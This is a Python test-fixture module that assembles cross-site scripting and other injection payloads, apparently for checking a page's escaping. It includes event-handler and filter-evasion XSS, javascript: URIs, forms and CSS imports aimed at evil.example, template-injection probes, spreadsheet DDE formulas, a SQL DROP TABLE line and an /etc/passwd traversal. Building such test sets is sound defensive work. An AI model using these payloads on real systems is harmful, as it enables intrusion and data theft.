"""Two hundred texts that would run, load or break something on a page that takes text for markup.

Kinds after OWASP's filter evasion cheat sheet and PortSwigger's list of vectors; what they would run is `xss()`.
"""

from __future__ import annotations

from itertools import product

_RUN = "xss()"

#: Events that fire by themselves, on elements that have them.
_BY_THEMSELVES = [
    f"<{element} {event}={_RUN}>"
    for element, event in (
        ("img src=x", "onerror"),
        ("image src=x", "onerror"),
        ("video src=x", "onerror"),
        ("audio src=x", "onerror"),
        ("video><source", "onerror"),
        ("svg", "onload"),
        ("svg><animate attributeName=x dur=1s", "onbegin"),
        ("svg><set attributeName=x dur=1s", "onbegin"),
        ("svg><image href=x", "onerror"),
        ("body", "onload"),
        ("body", "onpageshow"),
        ("iframe", "onload"),
        ("object data=x", "onerror"),
        ("embed src=/", "onload"),
        ("link rel=stylesheet href=x", "onerror"),
        ("script src=x", "onerror"),
        ("style", "onload"),
        ("input autofocus", "onfocus"),
        ("select autofocus", "onfocus"),
        ("textarea autofocus", "onfocus"),
        ("button autofocus", "onfocus"),
        ("a href=# autofocus", "onfocus"),
        ("details open", "ontoggle"),
        ("marquee", "onstart"),
        ("math href=#", "onfocusin"),
        ("div style=animation-name:a", "onanimationstart"),
        ("div style=transition:1s tabindex=0", "ontransitionend"),
        ("dialog open", "onclose"),
        ("div popover id=p", "onbeforetoggle"),
        ("xss contenteditable autofocus", "onfocus"),
    )
]

#: Out of what stands around a text: an attribute, an element whose content is no markup, a comment.
_AROUND = ['"', "'", '">', "'>", "</textarea>", "</title>", "</option></select>", "</script>", "</style>", "-->", "]]>"]
_INSIDE = [
    f"<script>{_RUN}</script>",
    f" onmouseover={_RUN} ",
    f" autofocus onfocus={_RUN} x=",
    f"<svg/onload={_RUN}>",
    f"<img src=x onerror={_RUN}>",
]
_OUT_OF = [around + inside for around, inside in product(_AROUND, _INSIDE)]

#: How a filter that looks for `<script` or `javascript:` is passed by.
_DISGUISED = [
    f"<ScRiPt>{_RUN}</sCrIpT>",
    f"<script\x0c>{_RUN}</script\x0c>",
    f"<scr<script>ipt>{_RUN}</scr</script>ipt>",
    f"<script/x>{_RUN}</script>",
    f"<<script>{_RUN}//<</script>",
    f"<svg><script>{_RUN}</script></svg>",
    "<svg><script>&#120;ss()</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={_RUN}>'>",
    f"<template><script>{_RUN}</script></template>",
    f"<img\x0bsrc=x\x0bonerror={_RUN}>",
    f"<img/src=x/onerror={_RUN}>",
    f"<img src=x onerror\n={_RUN}>",
    "<img src=x onerror=&#120;ss()>",
    f"<img src=x onerror='{_RUN}' '>",
    f"<IMG SRC=x:x ONERROR={_RUN}//",
    f"<!--><img src=x onerror={_RUN}>-->",
    f"<![CDATA[><script>{_RUN}</script>]]>",
    f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{_RUN}</script>",
    f"%3Cscript%3E{_RUN}%3C/script%3E",
    f"&lt;script&gt;{_RUN}&lt;/script&gt;",
    f"&amp;lt;script&amp;gt;{_RUN}",
    f"\\u003cscript\\u003e{_RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{_RUN}",
    f"+ADw-script+AD4-{_RUN}+ADw-/script+AD4-",
    f"＜script＞{_RUN}＜/script＞",
    f"<ſcript>{_RUN}</ſcript>",
    f"¼script¾{_RUN}¼/script¾",
]

#: Addresses that are no addresses.
_SCHEMES = [
    f"{scheme}{_RUN}"
    for scheme in (
        "javascript:",
        "JaVaScRiPt:",
        "java\tscript:",
        "java\nscript:",
        "\x01javascript:",
        " javascript:",
        "javascript&colon;",
        "&#106;avascript:",
        "javascript://%0a",
        "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+",
        "vbscript:",
        "data:text/html,<script>",
        "data:text/html;base64,PHNjcmlwdD54c3MoKTwvc2NyaXB0Pg==#",
        "data:image/svg+xml,<svg/onload=1>",
        "feed:javascript:",
        "view-source:javascript:",
        "blob:",
        "//evil.example/",
        "https://evil.example/",
        "\\\\evil.example\\",
    )
]

#: What no script does, and yet no colleague may bring into a page.
_WITHOUT_SCRIPT = [
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=Content-Security-Policy content=''>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/)}</style>",
    "<div style='background:url(https://evil.example/)'>",
    "<img src=https://evil.example/pixel.png>",
    "<img srcset='https://evil.example/ 1x'>",
    "<video poster=https://evil.example/>",
    "<iframe src=https://evil.example/>",
    "<iframe srcdoc='<script>parent.xss()</script>'>",
    "<object data=https://evil.example/>",
    "<form action=https://evil.example/><button>Verzenden",
    "<button formaction=https://evil.example/>Verzenden",
    "<input name=password type=password>",
    "<a href=https://evil.example/ target=_top>Klik",
    "<a ping=https://evil.example/ href=/>Klik",
    "<img src='https://evil.example/?",
    "<textarea><form action=https://evil.example/>",
    "<svg><use href=https://evil.example/x.svg#x>",
    "<svg><a xlink:href=javascript:xss()><text>x",
    "<plaintext>",
    "<xmp>",
    "<!--",
    "<![if]>",
    "</main></body></html>",
    "<title>",
    "<noscript>",
    "<html xmlns:x=y manifest=z>",
]

#: Templates of ours and of others.
_TEMPLATES = [
    "{{ 7191 * 7 }}",
    "{% raw %}",
    "{% for x in ().__class__.__base__.__subclasses__() %}x{% endfor %}",
    "{{ visitor }}",
    "{{ config.items() }}",
    "{# weg",
    "{{''.__class__.__mro__[1]}}",
    "${7191*7}",
    "#{7191*7}",
    "<%= 7191*7 %>",
    "%(name)s %s %d",
    "{0} {name} {",
    "[[7191*7]]",
    "{{constructor.constructor('xss()')()}}",
]

#: Letters that turn, join, hide or end what stands beside them.
_LETTERS = [
    "\u202egnp.exe\u202c",
    "\u2066<b>\u2069",
    "\u200b\u200c\u200d\ufeff",
    "نص <b>عربي</b> \u200f",
    "e\u0301\u0327" * 20,
    "Z̸̛̩a̵l̷g̶o̴",
    "\x00<script>xss()</script>",
    "\x1b[31mrood\x07",
    "\u2028xss()\u2029",
    "👩‍👧‍👦🏳️‍🌈",
    "ﷺ﷽",
    "\ufffe\uffff",
    "𝕏𝕊𝕊\U000e0001",
]

#: Cells that a spreadsheet would calculate.
FORMULAS = [
    '=HYPERLINK("https://evil.example/","Klik")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'; DROP TABLE parents; --",
    '" OR 1=1 --',
    "../../../../etc/passwd",
]

PAYLOADS = [
    *_BY_THEMSELVES, *_OUT_OF, *_DISGUISED, *_SCHEMES, *_WITHOUT_SCRIPT, *_TEMPLATES, *_LETTERS, *FORMULAS,
]  # fmt: skip


def in_batches(count: int) -> list[str]:
    """All of them in so many texts; each text begins with a cell that calculates."""
    others = [one for one in PAYLOADS if one not in FORMULAS]
    return [" ".join(FORMULAS[place::count] + others[place::count]) for place in range(count)]
